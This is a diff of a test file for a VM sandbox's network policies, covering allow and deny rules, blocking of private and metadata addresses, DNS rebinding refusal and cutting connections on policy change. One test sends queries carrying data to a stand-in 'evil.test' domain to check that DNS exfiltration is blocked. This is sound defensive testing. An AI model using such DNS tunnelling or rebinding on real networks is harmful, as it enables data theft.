@@ -1,14 +1,16 @@
-// What a sandbox may connect to, on real VMs in a small Internet of the test's own.
+// Network policies on real VMs in an isolated test network.
 
 import assert from "node:assert/strict";
 import { after, before, beforeEach, describe, it } from "node:test";
 import { NetDaemon } from "../helpers/net-daemon.ts";
 import { probe } from "../helpers/net-guest.ts";
 import { NetWorld, OUTSIDE } from "../helpers/net-world.ts";
+import { patience } from "../helpers/patience.ts";
+import { until } from "../helpers/until.ts";
 
 import type { NetworkOptions, Sandbox } from "forkd";
 
-/** none of these may be reached unless a rule names them; servers of ours listen on all */
+/** unreachable unless a rule names them; the test's servers listen on all of them */
 const FORBIDDEN = [
   OUTSIDE.private,
   OUTSIDE.otherPrivate,
@@ -18,7 +20,7 @@ const FORBIDDEN = [
   OUTSIDE.unique6,
   OUTSIDE.translated6,
   `::ffff:${OUTSIDE.private}`,
-  // the host: its own addresses, and its loopback by the name server's address
+  // the host: its own addresses, and its loopback through the DNS server's address
   "198.51.100.1",
   "10.55.0.1",
   "2001:db8:1::1",
@@ -45,7 +47,7 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
 
   const reached = (): string[] => [...new Set(world.hits.map(({ address }) => address))].toSorted();
 
-  it("is off unless it is asked for: everything fails at once, and nothing is asked", async () => {
+  it("is off by default: everything fails at once, and no query is sent", async () => {
     await using sandbox = await make();
     assert.deepEqual(sandbox.info.network, { mode: "none", allow: [], egress_limit_bytes: null });
     for (const host of [OUTSIDE.public, OUTSIDE.public6, OUTSIDE.metadata, "192.0.2.1"])
@@ -58,10 +60,10 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
   it("allows by name, by wildcard and by port, over IPv4 and IPv6", async () => {
     await using sandbox = await make({ mode: "allow", allow: ["pub.test:80", "*.PUB.test"] });
     assert.equal(await probe(sandbox, `get("pub.test")`), "hello");
-    assert.deepEqual(await sandbox.ports.list(), [], "what takes connections for the host is not one of its servers");
+    assert.deepEqual(await sandbox.ports.list(), [], "the listener of forkd is not a server of the host");
     assert.equal(await probe(sandbox, `get("www.pub.test")`), "hello");
     assert.equal(await probe(sandbox, `get("www.pub.test", 8080)`), "hello");
-    // by address, once the name led there
+    // by address, after the name was resolved
     assert.equal(await probe(sandbox, `get("${OUTSIDE.public6}")`), "hello");
     assert.equal(await probe(sandbox, `get("pub.test", 8080)`), "ConnectionResetError ECONNRESET");
     assert.equal(await probe(sandbox, `get("${OUTSIDE.gateway}")`), "ConnectionResetError ECONNRESET");
@@ -90,7 +92,7 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
     assert.deepEqual(world.asked, []);
   });
 
-  it("that is open reaches what is public, and nothing else", async () => {
+  it("that is open reaches public addresses only", async () => {
     await using sandbox = await make({ mode: "open" });
     for (const host of [OUTSIDE.public, OUTSIDE.public6, OUTSIDE.gateway, "pub.test"])
       assert.equal(await probe(sandbox, `get("${host}")`), "hello", host);
@@ -103,32 +105,49 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
     assert.equal(world.hits.length, before);
   });
 
-  it("lets a name that moves to a private address lead nowhere", async () => {
+  it("that is open does not reach denied addresses", async () => {
+    await using sandbox = await make({ mode: "open", deny: [OUTSIDE.public, "2001:db8::/32", `${OUTSIDE.gateway}:8080`] });
+    assert.deepEqual(sandbox.info.network.deny, [OUTSIDE.public, "2001:db8::/32", `${OUTSIDE.gateway}:8080`]);
+    for (const host of [OUTSIDE.public, OUTSIDE.public6])
+      assert.equal(await probe(sandbox, `get("${host}")`), "ConnectionResetError ECONNRESET");
+    assert.equal(await probe(sandbox, `get("${OUTSIDE.gateway}", 8080)`), "ConnectionResetError ECONNRESET");
+    assert.equal(await probe(sandbox, `get("${OUTSIDE.gateway}")`), "hello");
+    await using allowed = await make({ mode: "open", allow: [`${OUTSIDE.public}:80`], deny: [OUTSIDE.public] });
+    assert.equal(await probe(allowed, `get("${OUTSIDE.public}")`), "hello");
+  });
+
+  it("refuses a name that resolves to a private address later", async () => {
     await world.name({
       "rebind.test": { A: [[OUTSIDE.public], [OUTSIDE.private], ["127.0.0.1"], [OUTSIDE.metadata], [OUTSIDE.private, OUTSIDE.metadata]] },
     });
     await using sandbox = await make({ mode: "allow", allow: ["rebind.test"] });
     assert.equal(await probe(sandbox, `get("rebind.test")`), "hello");
     for (let i = 0; i < 4; i++) {
-      await probe(sandbox, "time.sleep(1.2)");
-      assert.match(String(await probe(sandbox, `get("rebind.test")`)), /gaierror/);
+      const before = world.timesAsked("rebind.test");
+      let answer: unknown;
+      // an address is valid for the TTL of its answer, one second
+      await until(async () => {
+        answer = await probe(sandbox, `get("rebind.test")`);
+        return world.timesAsked("rebind.test") > before;
+      });
+      assert.match(String(answer), /gaierror/);
     }
     assert.ok(world.asked.length >= 4);
     for (const host of [OUTSIDE.private, OUTSIDE.metadata, "192.0.2.1"])
       assert.equal(await probe(sandbox, `get("${host}")`), "ConnectionResetError ECONNRESET", host);
-    // what the name led to first is still public
+    // the first address of the name is still public
     assert.equal(await probe(sandbox, `get("${OUTSIDE.public}")`), "hello");
     assert.deepEqual(reached(), [OUTSIDE.public]);
   });
 
-  it("reaches the host itself only where a rule names its very address", async () => {
+  it("reaches the host itself only if a rule names its exact address", async () => {
     await using sandbox = await make({ mode: "allow", allow: ["127.0.0.1:8080", "198.51.100.1:80"] });
     assert.equal(await probe(sandbox, `get("host.forkd.internal", 8080)`), "hello");
     assert.equal(await probe(sandbox, `get("198.51.100.1")`), "hello");
     assert.equal(await probe(sandbox, `get("host.forkd.internal", 80)`), "ConnectionResetError ECONNRESET");
     assert.equal(await probe(sandbox, `get("10.55.0.1")`), "ConnectionResetError ECONNRESET");
     assert.deepEqual(reached(), ["127.0.0.1", "198.51.100.1"]);
-    // a program's own loopback stays its own
+    // 127.0.0.1 is always the guest's own loopback
     assert.equal(await probe(sandbox, `get("127.0.0.1", 8080)`), "ConnectionRefusedError ECONNREFUSED");
     await sandbox.network.set({ mode: "allow", allow: ["127.0.0.0/8", "198.51.100.0/24"] });
     assert.match(String(await probe(sandbox, `get("host.forkd.internal", 8080)`)), /gaierror/);
@@ -136,7 +155,7 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
     assert.equal(await probe(sandbox, `get("198.51.100.1")`), "ConnectionResetError ECONNRESET");
   });
 
-  it("answers for names by itself, whoever is asked and however", async () => {
+  it("answers DNS queries itself, to any server and over any transport", async () => {
     await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
     const found = [0, [OUTSIDE.public]];
     for (const server of ["192.0.2.1", "8.8.8.8", OUTSIDE.private, "2001:db8::53"])
@@ -145,7 +164,7 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
     assert.deepEqual(await probe(sandbox, `ask("pub.test", 65)`), [0, []]);
     assert.deepEqual(await probe(sandbox, `ask("PuB.TeSt")`), found);
     assert.deepEqual([world.hits.length, [...new Set(world.asked)]], [0, ["pub.test"]]);
-    // nothing of what a program puts into other names leaves
+    // DNS queries must not carry data out through other names
     world.forget();
     await probe(sandbox, `[ask("%d.secret.evil.test" % i) for i in range(200)][-1]`);
     for (const name of ["evil.test", "pub.test.evil.test", "xpub.test", "www.pub.test"])
@@ -153,25 +172,21 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
     assert.deepEqual(world.asked, []);
   });
 
-  it("is cut off by a change of policy, in the middle of a connection", async (t) => {
+  it("closes connections when the policy changes", async () => {
     await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
     assert.equal(await probe(sandbox, `hold("a", "pub.test")`), "hello");
     assert.equal(await probe(sandbox, `hold("b", "${OUTSIDE.public}")`), "hello");
     assert.equal((await sandbox.network.get()).connections_open, 2);
     await sandbox.network.set({ mode: "allow", allow: [OUTSIDE.public] });
-    // one of them is still allowed
+    // one of the connections is still allowed
     assert.equal((await sandbox.network.get()).connections_open, 1);
     assert.equal(await probe(sandbox, `echo("a")`), "ECONNRESET");
     assert.equal(await probe(sandbox, `echo("b")`), "hello");
-    const seen = probe(sandbox, `waits("b")`).then((what) => ({ what, at: performance.now() }));
-    await new Promise((resolve) => setTimeout(resolve, 500));
-    const from = performance.now();
-    const info = await sandbox.network.set({ mode: "none" });
-    const inForce = performance.now() - from;
-    assert.equal(info.connections_open, 0);
-    const { what, at } = await seen;
-    assert.equal(what, "ECONNRESET");
-    t.diagnostic(`the policy was in force after ${inForce.toFixed(1)} ms, and the program had told so after ${(at - from).toFixed(1)} ms`);
+    const begun = Promise.withResolvers<void>();
+    const seen = sandbox.eval(`print("waits")\nwaits("b")`, { timeoutSecs: patience() / 1000, onStdout: () => begun.resolve() });
+    await begun.promise;
+    assert.equal((await sandbox.network.set({ mode: "none" })).connections_open, 0);
+    assert.equal((await seen).value, "ECONNRESET");
     assert.equal(await probe(sandbox, `get("${OUTSIDE.public}")`), "OSError ENETUNREACH");
     await sandbox.network.set({ mode: "open" });
     assert.equal(await probe(sandbox, `get("pub.test")`), "hello");
@@ -181,12 +196,12 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
         .trim()
         .split("\n")
         .map((line) => (JSON.parse(line) as { metadata: unknown }).metadata),
-      // of the test before, and of this one
+      // from the previous test, and from this one
       [{ mode: "allow" }, { mode: "allow" }, { mode: "none" }],
     );
   });
 
-  it("can be closed while the sandbox is paused, and be opened after that", async () => {
+  it("can be closed while the sandbox is paused, and be opened afterwards", async () => {
     await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
     assert.equal(await probe(sandbox, `hold("a", "pub.test")`), "hello");
     await sandbox.pause();
@@ -199,7 +214,7 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
     assert.equal(await probe(sandbox, `get("pub.test")`), "hello");
   });
 
-  it("finds its name server whatever the image has in that place", async () => {
+  it("has its name server with any resolv.conf of the image", async () => {
     await using sandbox = await make();
     for (const script of ["rm -f /etc/resolv.conf; ln -s ../run/nowhere/stub.conf /etc/resolv.conf", "rm -f /etc/resolv.conf"]) {
       assert.equal((await sandbox.exec(script)).exit_code, 0);
@@ -209,7 +224,7 @@ describe("a sandbox's network", { skip: missing ?? false }, () => {
     }
   });
 
-  it("refuses rules that are none, and changes nothing then", async () => {
+  it("refuses invalid rules, and changes nothing", async () => {
     await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
     for (const allow of [
       ["https://pub.test"],
